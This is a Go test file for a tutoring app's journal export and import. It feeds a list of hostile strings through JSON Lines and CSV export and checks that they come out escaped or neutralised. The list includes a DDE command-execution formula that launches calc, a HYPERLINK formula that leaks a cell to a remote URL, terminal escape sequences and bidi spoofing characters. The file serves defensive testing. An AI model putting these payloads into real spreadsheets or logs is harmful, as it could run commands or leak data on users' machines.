package journal

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"errors"
	"io"
	"iter"
	"math"
	"os"
	"path/filepath"
	"reflect"
	"slices"
	"strings"
	"testing"
	"testing/iotest"
	"time"
	"unicode"

	"github.com/santhosh-tekuri/jsonschema/v6"

	"steelyard/tutor"
)

// hostile are lines a learner, or somebody who is not one, might type.
var hostile = []string{
	"T L sin(alpha)", "T·L·sin α", "½ W L", "",
	"=1+1", "+T L", "-M g L/2", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "  =1", "\"=1\"", "＝1+1", "x;=1+1;-2",
	`=HYPERLINK("http://example.org?"&A1,"see")`, "=cmd|' /C calc'!A0",
	"a,b;c|d", `"quoted" and 'so'`, "two\nlines", "\\n is not a line", "{\"v\":1}\n{\"v\":1}",
	"\x1b[2J\x1b]0;title\x07", "\x00", "\x7f", "\u0085\u009b31m", "\u2028\u2029",
	"\u202emoc.live\u202c", "\u2066a\u2069\u200f\u061c", "\ufeff\u200b\u00ad", "\ufffd", "bad \xff\xfe byte",
	"\U000e0041\U000e007f", "\U0010ffff", "🙂 👩‍🔧", "e\u0301\u0302\u0303", "<b>&amp;</b>",
	strings.Repeat("\x1b", 1000),
}

// hostileJournal has every hostile line, in every text field in turn.
func hostileJournal(t testing.TB) *Journal {
	j := memory(t)
	session := j.NewSession()
	for i, line := range hostile {
		for field := range texts(new(tutor.Event)) {
			e := answer(session)
			e.Seed = math.MaxUint64 - uint64(i)
			e.Seconds = float64(i) / 3
			e.Slip = []string{line, "sense"}
			if s := texts(e)[field]; s != &e.Problem || line != "" {
				*s = line
			}
			record(t, j, e)
		}
	}
	record(t, j, event(session, tutor.Finished)) // with all that may be left out
	return j
}

func exported(t testing.TB, j *Journal) string {
	t.Helper()
	var out bytes.Buffer
	n, err := ExportJSONL(&out, j.Events(Filter{}))
	if lines := strings.Count(out.String(), "\n"); err != nil || n != lines {
		t.Fatalf("ExportJSONL: %d events, %d lines, %v", n, lines, err)
	}
	return out.String()
}

func TestRoundTrip(t *testing.T) {
	j := hostileJournal(t)
	log := exported(t, j)
	again := memory(t)
	done, err := again.ImportJSONL(strings.NewReader(log))
	want := Imported{Lines: strings.Count(log, "\n"), Added: strings.Count(log, "\n")}
	if err != nil || !reflect.DeepEqual(done, want) {
		t.Fatalf("import: %+v, %v; want %+v", done, err, want)
	}
	if a, b := all(t, j, Filter{}), all(t, again, Filter{}); !reflect.DeepEqual(a, b) {
		t.Error("the events read back are not those exported")
	}
	if exported(t, again) != log {
		t.Error("export, import, export: the logs differ")
	}

	done, err = again.ImportJSONL(strings.NewReader(log))
	if want := (Imported{Lines: want.Lines, Known: want.Added}); err != nil || !reflect.DeepEqual(done, want) {
		t.Errorf("importing again: %+v, %v; want %+v", done, err, want)
	}
	if exported(t, again) != log {
		t.Error("importing again changed the journal")
	}
}

func TestExportIsHarmless(t *testing.T) {
	j := hostileJournal(t)
	log := exported(t, j)
	var table bytes.Buffer
	if _, err := ExportCSV(&table, j.Events(Filter{})); err != nil {
		t.Fatal(err)
	}
	for what, s := range map[string]string{"JSON Lines": log, "CSV": table.String()} {
		for _, r := range s {
			if r != '\n' && !unicode.IsGraphic(r) {
				t.Errorf("%s has %U raw", what, r)
				break
			}
		}
	}
	for _, want := range []string{`\u001b[2J`, `\u007f`, `\u009b31m`, `\u2028\u2029`, `\u202emoc`, `\u061c`, `\ufeff\u200b\u00ad`, `\ufffd`, `\udb40\udc41`, `<b>&amp;</b>`, `T·L·sin α`, `🙂`} {
		if !strings.Contains(log, want) {
			t.Errorf("JSON Lines: no %s", want)
		}
	}
}

func TestExportCSV(t *testing.T) {
	j := hostileJournal(t)
	var out bytes.Buffer
	n, err := ExportCSV(&out, j.Events(Filter{}))
	if err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&out).ReadAll()
	if err != nil || len(rows) != n+1 {
		t.Fatalf("%d rows for %d events, %v", len(rows), n, err)
	}
	header := strings.Join(rows[0], " ")
	if want := "v id at learner cohort session set problem seed given scenario_hash mode kind step body cell pivot positive typed verdict slip try hint_depth seconds"; header != want {
		t.Errorf("header %s, want %s", header, want)
	}
	typed := columnNamed("typed")
	got := map[string]bool{}
	for _, row := range rows[1:] {
		got[row[typed]] = true
		for i, c := range row {
			// Also as a spreadsheet would cut it that separates by semicolons.
			for part := range strings.SplitSeq(c, ";") {
				if active(part) {
					t.Errorf("%s: a formula: %q", rows[0][i], c)
				}
			}
		}
	}
	for _, want := range []string{
		"T L sin(alpha)", "'=1+1", "'+T L", "'-M g L/2", "'@SUM(A1)", `'\t=1`, `'\r=1`, `'\n=1`, "'  =1", `'"=1"`, "'＝1+1",
		"x;'=1+1;'-2", "a,b;c|d", `two\nlines`, `\u001b[2J\u001b]0;title\u0007`, `\u202emoc.live\u202c`, `\U000e0041\U000e007f`,
		"bad \ufffd byte", "",
	} {
		if !got[want] {
			t.Errorf("no cell %q", want)
		}
	}
	last := rows[len(rows)-1]
	if want := []string{"finished", "", "0", "0", "0"}; !slices.Equal([]string{last[columnNamed("kind")], last[slipColumn], last[slipColumn+1], last[slipColumn+2], last[slipColumn+3]}, want) {
		t.Errorf("the bare event is %q", last)
	}
}

func logSchema(t testing.TB) *jsonschema.Schema {
	t.Helper()
	c := jsonschema.NewCompiler()
	c.AssertFormat()
	s, err := c.Compile(filepath.Join("..", "..", "testdata", "log.schema.json"))
	if err != nil {
		t.Fatal(err)
	}
	return s
}

// valid says whether a line is what the schema describes.
func valid(s *jsonschema.Schema, line string) error {
	v, err := jsonschema.UnmarshalJSON(strings.NewReader(line))
	if err != nil {
		return err
	}
	return s.Validate(v)
}

func TestExportsMatchTheSchema(t *testing.T) {
	schema := logSchema(t)
	for line := range strings.Lines(exported(t, hostileJournal(t))) {
		if err := valid(schema, line); err != nil {
			t.Fatalf("%s%v", line, err)
		}
	}
	// And it describes no field that there is not.
	var doc struct {
		Properties map[string]any
	}
	b, err := os.ReadFile(filepath.Join("..", "..", "testdata", "log.schema.json"))
	if err != nil {
		t.Fatal(err)
	}
	if err := json.Unmarshal(b, &doc); err != nil {
		t.Fatal(err)
	}
	if len(doc.Properties) != len(columns) {
		t.Errorf("the schema describes %d fields, an event has %d", len(doc.Properties), len(columns))
	}
	for _, c := range columns {
		if doc.Properties[c.name] == nil {
			t.Errorf("the schema does not describe %q", c.name)
		}
	}
}

const goodLine = `{"v":1,"id":"019cd3a0-1111-7abc-8def-000000000001","at":"2026-03-09T18:04:05.25Z","learner":"otter","session":"019cd3a0-0000-7abc-8def-000000000000","problem":"davit-arm","seed":7,"scenario_hash":"9f2c","mode":"guided","kind":"answered","typed":"T L","verdict":"wrong","slip":["sense"],"try":1,"hint_depth":1,"seconds":2.5}`

// badLines are changes to goodLine, old and new, after which neither the
// schema nor the import takes it; words are in what the import says.
var badLines = []struct{ old, new, words string }{
	{`"v":1,`, ``, "v is missing"},
	{`"v":1`, `"v":2`, "version 1"},
	{`"v":1`, `"v":null`, "v is missing"},
	{`"v":1`, `"v":"1"`, `"v" holds a JSON string`},
	{`"learner":"otter",`, ``, "learner is missing"},
	{`"seed":7,`, ``, "seed is missing"},
	{`"seed":7`, `"seed":-7`, `"seed" holds a JSON number`},
	{`"seed":7`, `"seed":18446744073709551616`, `"seed" holds`},
	{`"seed":7`, `"seed":7.5`, `"seed" holds`},
	{`"scenario_hash":"9f2c",`, ``, "scenario_hash is missing"},
	{`"mode":"guided",`, ``, "mode is missing"},
	{`"kind":"answered",`, ``, "not a kind"},
	{`"answered"`, `"\u001b[31m"`, `"\x1b[31m" is not a kind`},
	{`"problem":"davit-arm"`, `"problem":""`, "problem is empty"},
	{`"id":"019cd3a0-1111-7abc-8def-000000000001",`, ``, "not a UUID"},
	{`-7abc-8def-000000000001`, `-4abc-8def-000000000001`, "version 7"},
	{`019cd3a0-1111`, `019CD3A0-1111`, "lower case"},
	{`"session":"019cd3a0-0000-7abc-8def-000000000000",`, ``, "session"},
	{`"at":"2026-03-09T18:04:05.25Z",`, ``, "at is in the year"},
	{`2026-03-09T`, `2026-13-09T`, "not an event"},
	{`"wrong"`, `"meh"`, "not a verdict"},
	{`"slip":["sense"]`, `"slip":"sense"`, `"slip" holds a JSON string`},
	{`"slip":["sense"]`, `"slip":[1]`, `"slip" holds a JSON number`},
	{`"try":1`, `"try":-1`, "try is -1"},
	{`"hint_depth":1`, `"hint_depth":4`, "hint_depth is 4"},
	{`"seconds":2.5`, `"seconds":-2.5`, "seconds is -2.5"},
	{`"typed":"T L"`, `"typed":"T L","extra\u001b":1`, "unknown field"},
	{`"typed":"T L"`, `"typed":"` + strings.Repeat("x", MaxText+1) + `"`, "bytes"},
	{goodLine, `[` + goodLine + `]`, "JSON array, not an object"},
	{goodLine, `null`, "v is missing"},
	{goodLine, goodLine[:len(goodLine)-1], "no end"},
	{goodLine, goodLine + goodLine, "more after"},
	{goodLine, `otter typed T L`, "not JSON"},
	{goodLine, "\x1b[2J", `'\x1b'`},
	{goodLine, strings.Repeat("[", 20_000), "not JSON"},
}

func TestBadLines(t *testing.T) {
	schema := logSchema(t)
	if err := valid(schema, goodLine); err != nil {
		t.Fatal(err)
	}
	j := memory(t)
	for _, c := range badLines {
		line := strings.Replace(goodLine, c.old, c.new, 1)
		if line == goodLine {
			t.Fatalf("%s is not in the good line", c.old)
		}
		if len(line) < 10_000 || !strings.HasPrefix(line, "[") { // the validator need not bear deep nesting
			if err := valid(schema, line); err == nil {
				t.Errorf("the schema takes %.300s", line)
			}
		}
		done, err := j.ImportJSONL(strings.NewReader("\n" + line + "\n"))
		if err != nil || done.Bad != 1 || len(done.BadLines) != 1 || done.Lines != 2 {
			t.Errorf("%.300s: %+v, %v", line, done, err)
			continue
		}
		said := done.BadLines[0].Error()
		if !strings.HasPrefix(said, "line 2: ") || !strings.Contains(said, c.words) {
			t.Errorf("%.300s\n\tsaid %q\n\twant %q", line, said, c.words)
		}
		if strings.ContainsFunc(said, risky) || len(said) > 400 {
			t.Errorf("said, not fit for a terminal: %q", said)
		}
	}
	if got := all(t, j, Filter{}); len(got) != 0 {
		t.Errorf("recorded from bad lines: %+v", got)
	}
}

func TestImportGoesOnPastBadLines(t *testing.T) {
	n := 0
	next := func() string { // a good line of its own
		n++
		return strings.Replace(goodLine, "8def-000000000001", "8def-"+strings.Repeat("0", 9)+string([]byte{byte('a' + n/100), byte('0' + n/10%10), byte('0' + n%10)}), 1)
	}
	first := next()
	long := `{"v":1,"typed":"` + strings.Repeat("x", 3*MaxLine) + `"}`
	lines := []string{
		"\ufeff" + first,
		"",
		"  \t ",
		"rubbish",
		next() + "\r",
		long,
		first, // known
		strings.Replace(first, `"T L"`, `"T"`, 1),           // another event under its id
		strings.Replace(next(), "05.25Z", "05.25+01:00", 1), // another zone
		"more rubbish",
		next(), // and no newline after it
	}
	for what, r := range map[string]io.Reader{
		"at once":    strings.NewReader(strings.Join(lines, "\n")),
		"in dribble": iotest.HalfReader(strings.NewReader(strings.Join(lines, "\n"))),
	} {
		j := memory(t)
		done, err := j.ImportJSONL(r)
		var bad []int
		for _, b := range done.BadLines {
			bad = append(bad, b.Line)
		}
		if err != nil || done.Lines != len(lines) || done.Added != 4 || done.Known != 1 || done.Bad != 4 || !slices.Equal(bad, []int{4, 6, 8, 10}) {
			t.Errorf("%s: %+v, %v", what, done, err)
		}
		if !errors.Is(done.BadLines[2], errOtherEvent) {
			t.Errorf("line 8: %v", done.BadLines[2])
		}
		got := all(t, j, Filter{})
		if len(got) != 4 || got[0].Typed != "T L" {
			t.Fatalf("%s: in the journal %+v", what, got)
		}
		if want := time.Date(2026, 3, 9, 17, 4, 5, 25e7, time.UTC); !got[2].At.Equal(want) || got[2].At.Location() != time.UTC {
			t.Errorf("at = %v, want %v", got[2].At, want)
		}
	}
}

// More than one lot, and more bad lines than are kept.
func TestImportOfALongLog(t *testing.T) {
	from := memory(t)
	session := from.NewSession()
	for range 2*importEvents + 7 {
		record(t, from, event(session, tutor.Moved))
	}
	log := exported(t, from)
	mixed := strings.ReplaceAll(log, "\n", "\nrubbish\n")
	to := memory(t)
	done, err := to.ImportJSONL(strings.NewReader(mixed))
	const n = 2*importEvents + 7
	if err != nil || done.Added != n || done.Bad != n || done.Lines != 2*n || len(done.BadLines) != maxBadLines {
		t.Errorf("added %d, bad %d of %d lines, %d kept, %v", done.Added, done.Bad, done.Lines, len(done.BadLines), err)
	}
	if exported(t, to) != log {
		t.Error("the journal is not what was exported")
	}
}

func TestImportWhenReadingFails(t *testing.T) {
	j := memory(t)
	broken := errors.New("the cable came out")
	done, err := j.ImportJSONL(io.MultiReader(strings.NewReader(goodLine+"\n"+goodLine[:40]), iotest.ErrReader(broken)))
	if !errors.Is(err, broken) || done.Added != 1 || done.Bad != 0 {
		t.Errorf("%+v, %v", done, err)
	}
	if got := all(t, j, Filter{}); len(got) != 1 {
		t.Errorf("%d events: what was counted is not in the journal", len(got))
	}
}

func TestExportWhenWritingFails(t *testing.T) {
	j := hostileJournal(t)
	for what, export := range map[string]func(io.Writer, iter.Seq2[tutor.Event, error]) (int, error){"JSONL": ExportJSONL, "CSV": ExportCSV} {
		if _, err := export(fullDisk{}, j.Events(Filter{})); !errors.Is(err, errFull) {
			t.Errorf("%s: %v", what, err)
		}
	}
}

var errFull = errors.New("no space left")

type fullDisk struct{}

func (fullDisk) Write([]byte) (int, error) { return 0, errFull }

// Whatever the bytes, import neither fails nor panics, every line has one fate,
// and what it took can be exported and taken again.
func FuzzImport(f *testing.F) {
	schema := logSchema(f)
	f.Add([]byte(goodLine + "\n" + goodLine))
	for _, c := range badLines {
		f.Add([]byte(strings.Replace(goodLine, c.old, c.new, 1)))
	}
	for _, s := range hostile {
		b, _ := json.Marshal(s)
		f.Add([]byte(strings.Replace(goodLine, `"T L"`, string(b), 1)))
		f.Add([]byte(strings.Replace(goodLine, "T L", s, 1)))
	}
	f.Fuzz(func(t *testing.T, log []byte) {
		j := memory(t)
		defer j.Close()
		done, err := j.ImportJSONL(bytes.NewReader(log))
		if err != nil {
			t.Fatal(err)
		}
		blank := 0
		for line := range bytes.Lines(bytes.TrimPrefix(log, []byte("\ufeff"))) {
			if len(bytes.TrimSpace(line)) == 0 {
				blank++
			}
		}
		if done.Added+done.Known+done.Bad+blank < done.Lines {
			t.Errorf("%d blank, %+v: a line has no fate", blank, done)
		}
		out := exported(t, j)
		for line := range strings.Lines(out) {
			if err := valid(schema, line); err != nil {
				t.Fatalf("%s%v", line, err)
			}
		}
		if len(out) > 12*len(log)+done.Added*1024 {
			t.Errorf("%d bytes in, %d out", len(log), len(out))
		}
		again := memory(t)
		defer again.Close()
		if done2, err := again.ImportJSONL(strings.NewReader(out)); err != nil || done2.Added != done.Added || done2.Bad != 0 {
			t.Errorf("imported %+v, then %+v, %v", done, done2, err)
		}
		if exported(t, again) != out {
			t.Error("export, import, export: the logs differ")
		}
	})
}
